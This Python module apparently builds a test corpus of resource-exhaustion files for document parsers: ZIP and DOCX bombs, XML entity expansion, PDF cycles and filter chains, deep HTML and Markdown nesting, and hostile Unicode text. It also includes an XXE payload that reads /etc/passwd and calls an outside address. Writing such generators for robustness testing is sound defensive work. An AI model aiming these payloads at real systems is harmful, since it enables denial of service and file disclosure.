"""Articles made to exhaust whoever reads them. Each generator takes a size and gives a file's content.

After the known attacks on readers of ZIP (Fifield, "A better zip bomb", 2019), XML (entity expansion) and PDF (cyclic
and overlong structures). None needs its full size in memory to be made, apart from the plain texts.
"""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from itertools import pairwise

from soak.containers import (
    body_tags,
    document,
    docx,
    ended,
    flushed,
    inflating_part,
    page_with,
    paragraph,
    part,
    pdf,
    stream,
    zipped,
)

SENTENCE = "There were 24 calls in October 2023. "
"""A sentence that the small project can check."""


@dataclass(frozen=True)
class Bomb:
    """A kind of file: its suffix, its generator, and a size that no reader survives without bounds."""

    suffix: str
    make: Callable[[int], bytes]
    size: int


def docx_inflating(size: int) -> bytes:
    """A main part of one paragraph with `size` bytes of text, in a file a thousandth of that."""
    opening, closing = body_tags()
    before, after = opening + b"<w:p><w:r><w:t>", b"</w:t></w:r></w:p>" + closing
    return docx(inflating_part("word/document.xml", before, SENTENCE.encode(), size, after))


def docx_paragraphs(size: int) -> bytes:
    """A main part with `size` bytes of empty paragraphs."""
    opening, closing = body_tags()
    return docx(inflating_part("word/document.xml", opening, b"<w:p/>", size, closing))


def docx_entities(size: int) -> bytes:
    """Entities that each name the one before ten times, `size` deep."""
    names = [f"e{number}" for number in range(size)]
    declared = "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise(names))
    doctype = f'<!DOCTYPE d [<!ENTITY e0 "72 calls ">{declared}]>'.encode()
    return docx(document(paragraph(f"&{names[-1]};".encode()), doctype))


def docx_one_entity(size: int) -> bytes:
    """An entity of `size` bytes that the text names as often again: quadratic."""
    doctype = b'<!DOCTYPE d [<!ENTITY e "' + b"a" * size + b'">]>'
    return docx(document(paragraph(b"&e;" * size), doctype))


def docx_outside(size: int) -> bytes:
    """Entities of files and addresses outside, `size` times."""
    doctype = b'<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY n SYSTEM "http://192.0.2.1/">]>'
    return docx(document(paragraph(b"&e;&n;") * size, doctype))


def docx_deep(size: int) -> bytes:
    """Tables in cells of tables, `size` deep."""
    opening, closing = b"<w:tbl><w:tr><w:tc>", b"</w:tc></w:tr></w:tbl>"
    return docx(document(opening * size + paragraph(b"72 calls") + closing * size))


def docx_parts(size: int) -> bytes:
    """`size` parts that nothing refers to."""
    return docx(document(paragraph(b"72 calls")), *(part(f"word/{number}.xml", b"<a/>") for number in range(size)))


def docx_overlapping(size: int) -> bytes:
    """`size` entries that share the bytes of one."""
    return docx(inflating_part("word/document.xml", *_text_around(), 1 << 16, body_tags()[1]), overlaps=size)


def docx_nested(size: int) -> bytes:
    """A DOCX file in a DOCX file, `size` deep."""
    inner = docx_paragraphs(1 << 24)
    for _ in range(size):
        inner = docx(document(paragraph(b"72 calls")), part("word/embeddings/inner.docx", inner))
    return inner


def docx_lying(size: int) -> bytes:
    """A main part whose headers declare ten bytes and that inflates to `size`."""
    whole = inflating_part("word/document.xml", *_text_around(), size, body_tags()[1])
    return docx(type(whole)(whole.name, whole.deflated, whole.crc, 10))


def docx_cut(size: int) -> bytes:
    """A DOCX file that ends in the middle of its `size` bytes."""
    whole = docx_paragraphs(size)
    return whole[: len(whole) // 2]


def zip_only(size: int) -> bytes:
    """A ZIP file of `size` entries that is no DOCX file."""
    return zipped(part(str(number), b"") for number in range(size))


def _text_around() -> tuple[bytes, bytes]:
    return body_tags()[0], b"<w:p><w:r><w:t>72 calls</w:t></w:r></w:p>"


def pdf_inflating(size: int) -> bytes:
    """A page whose contents inflate to `size` bytes of shown text."""
    unit = b"BT /F1 9 Tf 1 0 0 1 9 9 Tm (72 calls) Tj ET\n" * 24_000
    return pdf(page_with(stream(_zlib(unit, size), b"/Filter /FlateDecode")))


def pdf_filters(size: int) -> bytes:
    """Contents under `size` filters, each of which inflates a thousandfold."""
    content = _zlib(b"\0" * (1 << 20), 1 << 30)
    for _ in range(size - 1):
        content = zlib.compress(content, 9)
    return pdf(page_with(stream(content, b"/Filter [" + b"/FlateDecode " * size + b"]")))


def pdf_predictor(size: int) -> bytes:
    """Contents with a predictor of `size` columns."""
    entries = b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Colors 32 /BitsPerComponent 16 /Columns %d >>"
    return pdf(page_with(stream(zlib.compress(b"\2" * 1000), entries % size)))


def pdf_cycle(size: int) -> bytes:
    """A page tree whose branches name the root again, `size` times each."""
    kids = b"2 0 R " * size
    objects = page_with(stream(b""), n2=b"<< /Type /Pages /Kids [3 0 R 7 0 R] /Count 99999 >>")
    return pdf(objects | {7: b"<< /Type /Pages /Parent 2 0 R /Kids [%b] /Count 99999 >>" % kids})


def pdf_deep_pages(size: int) -> bytes:
    """A page tree `size` deep."""
    objects = page_with(stream(_shown()), n2=b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>")
    for number in range(10, 10 + size):
        objects[number] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1)
    objects[10 + size] = objects[3]
    return pdf(objects)


def pdf_deep_array(size: int) -> bytes:
    """An array `size` deep, where a page's resources stand."""
    return pdf(page_with(stream(_shown()), n5=b"[" * size + b"]" * size))


def pdf_objects(size: int) -> bytes:
    """`size` objects that nothing refers to."""
    return pdf(page_with(stream(_shown())) | dict.fromkeys(range(10, 10 + size), b"null"))


def pdf_pages(size: int) -> bytes:
    """`size` pages that are all the same object's."""
    kids = b"3 0 R " * size
    return pdf(page_with(stream(_shown()), n2=b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, size)))


def pdf_count(size: int) -> bytes:
    """A page tree that declares `size` pages and has one."""
    return pdf(page_with(stream(_shown()), n2=b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % size))


def pdf_recursive_form(size: int) -> bytes:
    """A form that draws itself, `size` times."""
    entries = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    return pdf(page_with(stream(b"/X Do "), n6=stream(b"/X Do " * size, entries)))


def pdf_previous(size: int) -> bytes:
    """Cross-reference tables that each name an earlier one, the first of them itself, `size` times."""
    whole = pdf(page_with(stream(_shown())))
    start = whole.rindex(b"xref\n0")
    table = b"xref\n0 0\ntrailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\n"
    for _ in range(size):
        whole, start = whole + table % start, len(whole)
    return whole + b"startxref\n%d\n%%%%EOF\n" % start + table % len(whole)


def pdf_own_length(size: int) -> bytes:
    """A stream whose length is the stream itself, with `size` bytes in it."""
    return pdf(page_with(b"<< /Length 4 0 R >>\nstream\n" + b" " * size + b"\nendstream"))


def pdf_operators(size: int) -> bytes:
    """A page that saves its state `size` times."""
    return pdf(page_with(stream(zlib.compress(b"q " * size + _shown()), b"/Filter /FlateDecode")))


def pdf_characters(size: int) -> bytes:
    """One line of `size` characters on a page."""
    text = b"BT /F1 9 Tf (" + b"72 calls " * (size // 9) + b") Tj ET"
    return pdf(page_with(stream(zlib.compress(text), b"/Filter /FlateDecode")))


def _shown() -> bytes:
    return b"BT /F1 12 Tf 72 700 Td (There were 24 calls in October 2023.) Tj ET"


def _zlib(unit: bytes, size: int) -> bytes:
    """A zlib stream that inflates to about `size` bytes; its checksum is wrong, which readers find out at its end."""
    return b"\x78\xda" + flushed(unit) * max(1, size // len(unit)) + ended(b"") + b"\0\0\0\0"


def html_deep(size: int) -> bytes:
    """Elements `size` deep."""
    return b"<div>" * size + SENTENCE.encode() + b"</div>" * size


def html_unclosed(size: int) -> bytes:
    """`size` comments, declarations and tags that do not end."""
    return b"<!-- <![CDATA[ <a b='" * size


def html_attributes(size: int) -> bytes:
    """An element with `size` attributes."""
    return b"<p " + b"a='1' " * size + b">" + SENTENCE.encode()


def html_references(size: int) -> bytes:
    """`size` character references, most of them not valid."""
    return b"<p>" + b"&#x110000;&amp&#99999999999999999999;&lt" * size


def text_unbroken(size: int) -> bytes:
    """`size` bytes without a line break or a full stop."""
    return b"the office counted 72 calls " * (size // 28)


def text_without_blanks(size: int) -> bytes:
    """One word of `size` letters."""
    return b"a" * size


def text_digits(size: int) -> bytes:
    """A number of `size` digits."""
    return b"The office counted " + b"7" * size + b" calls."


def text_groups(size: int) -> bytes:
    """A number of `size` groups of digits."""
    return b"The office counted 7" + b",123" * size + b" calls."


def text_commas(size: int) -> bytes:
    """`size` commas."""
    return b"The office counted 72 calls" + b", 72" * size + b"."


def text_quotes(size: int) -> bytes:
    """`size` quotation marks that open and do not close."""
    return b"The office said \"'" + b"\"'(" * size + b" 72 calls."


def text_initials(size: int) -> bytes:
    """`size` full stops that may end a sentence or not."""
    return b"A. U.S. No. 7. " * size


def text_sentences(size: int) -> bytes:
    """`size` sentences, of which each can be checked."""
    return "".join(f"There were {number} calls in October 2023. " for number in range(size)).encode()


def text_paragraphs(size: int) -> bytes:
    """`size` paragraphs of one sentence."""
    return (SENTENCE.strip() + "\n\n").encode() * size


def text_nul(size: int) -> bytes:
    """`size` bytes of NUL."""
    return b"\0" * size


def text_controls(size: int) -> bytes:
    """Escape sequences of terminals, bidirectional overrides and zero-width characters around numbers."""
    return "The office\x1b[31m counted \u202e27\u202c \u200b7\u200b2 calls\x9b2J in\x07 all. ".encode() * size


def text_marks(size: int) -> bytes:
    """A letter with `size` combining marks (Unicode Technical Report 36)."""
    return ("e" + "\u0301\u0327" * size + " 72 calls.").encode()


def text_wide(size: int) -> bytes:
    """A ligature that compatibility normalization makes eighteen times as long, `size` times."""
    return ("\ufdfa" * size + " 72 calls.").encode()


def text_utf16(size: int) -> bytes:
    """UTF-16 without a mark of its order, cut in the middle of a surrogate."""
    return (SENTENCE * size + "\U0001f4a3").encode("utf-16-le")[:-1]


def text_gzip(size: int) -> bytes:
    """A gzip file, under a name that says text, that inflates to `size` bytes."""
    return gzip.compress(b"7" * (1 << 20), 9, mtime=0) * (size >> 20)


def markdown_quotes(size: int) -> bytes:
    """Block quotations `size` deep."""
    return b">" * size + b" " + SENTENCE.encode()


def markdown_brackets(size: int) -> bytes:
    """`size` brackets of links and pictures that open and do not close."""
    return b"![[" * size + b"](" * size


def markdown_lists(size: int) -> bytes:
    """Lists in lists, `size` deep."""
    return b"\n".join(b"  " * depth + b"- 72 calls" for depth in range(size))


def markdown_emphasis(size: int) -> bytes:
    """`size` marks of emphasis, code and tables that may match each other."""
    return b"*_**__`|" * size


BOMBS: Mapping[str, Bomb] = {
    "docx-inflating": Bomb(".docx", docx_inflating, 1 << 30),
    "docx-paragraphs": Bomb(".docx", docx_paragraphs, 1 << 30),
    "docx-entities": Bomb(".docx", docx_entities, 12),
    "docx-one-entity": Bomb(".docx", docx_one_entity, 100_000),
    "docx-outside": Bomb(".docx", docx_outside, 3),
    "docx-deep": Bomb(".docx", docx_deep, 100_000),
    "docx-parts": Bomb(".docx", docx_parts, 60_000),
    "docx-overlapping": Bomb(".docx", docx_overlapping, 60_000),
    "docx-nested": Bomb(".docx", docx_nested, 50),
    "docx-lying": Bomb(".docx", docx_lying, 1 << 30),
    "docx-cut": Bomb(".docx", docx_cut, 1 << 24),
    "docx-zip": Bomb(".docx", zip_only, 60_000),
    "pdf-inflating": Bomb(".pdf", pdf_inflating, 1 << 31),
    "pdf-filters": Bomb(".pdf", pdf_filters, 3),
    "pdf-predictor": Bomb(".pdf", pdf_predictor, 2**31 - 1),
    "pdf-cycle": Bomb(".pdf", pdf_cycle, 1000),
    "pdf-deep-pages": Bomb(".pdf", pdf_deep_pages, 100_000),
    "pdf-deep-array": Bomb(".pdf", pdf_deep_array, 1_000_000),
    "pdf-objects": Bomb(".pdf", pdf_objects, 1_000_000),
    "pdf-pages": Bomb(".pdf", pdf_pages, 100_000),
    "pdf-count": Bomb(".pdf", pdf_count, 2**31 - 1),
    "pdf-recursive-form": Bomb(".pdf", pdf_recursive_form, 100),
    "pdf-previous": Bomb(".pdf", pdf_previous, 10_000),
    "pdf-own-length": Bomb(".pdf", pdf_own_length, 1_000_000),
    "pdf-operators": Bomb(".pdf", pdf_operators, 10_000_000),
    "pdf-characters": Bomb(".pdf", pdf_characters, 3_000_000),
    "html-deep": Bomb(".html", html_deep, 100_000),
    "html-unclosed": Bomb(".html", html_unclosed, 300_000),
    "html-attributes": Bomb(".html", html_attributes, 1_000_000),
    "html-references": Bomb(".html", html_references, 500_000),
    "text-unbroken": Bomb(".txt", text_unbroken, 100_000_000),
    "text-without-blanks": Bomb(".txt", text_without_blanks, 100_000_000),
    "text-digits": Bomb(".txt", text_digits, 1_000_000),
    "text-groups": Bomb(".txt", text_groups, 300_000),
    "text-commas": Bomb(".txt", text_commas, 100_000),
    "text-quotes": Bomb(".txt", text_quotes, 100_000),
    "text-initials": Bomb(".txt", text_initials, 100_000),
    "text-sentences": Bomb(".txt", text_sentences, 10_000),
    "text-paragraphs": Bomb(".md", text_paragraphs, 10_000),
    "text-nul": Bomb(".txt", text_nul, 10_000_000),
    "text-controls": Bomb(".txt", text_controls, 10),
    "text-marks": Bomb(".txt", text_marks, 300_000),
    "text-wide": Bomb(".txt", text_wide, 1_000_000),
    "text-utf16": Bomb(".txt", text_utf16, 1000),
    "text-gzip": Bomb(".txt", text_gzip, 1 << 30),
    "markdown-quotes": Bomb(".md", markdown_quotes, 100_000),
    "markdown-brackets": Bomb(".md", markdown_brackets, 100_000),
    "markdown-lists": Bomb(".md", markdown_lists, 3000),
    "markdown-emphasis": Bomb(".md", markdown_emphasis, 100_000),
}
"""Every kind by its name."""
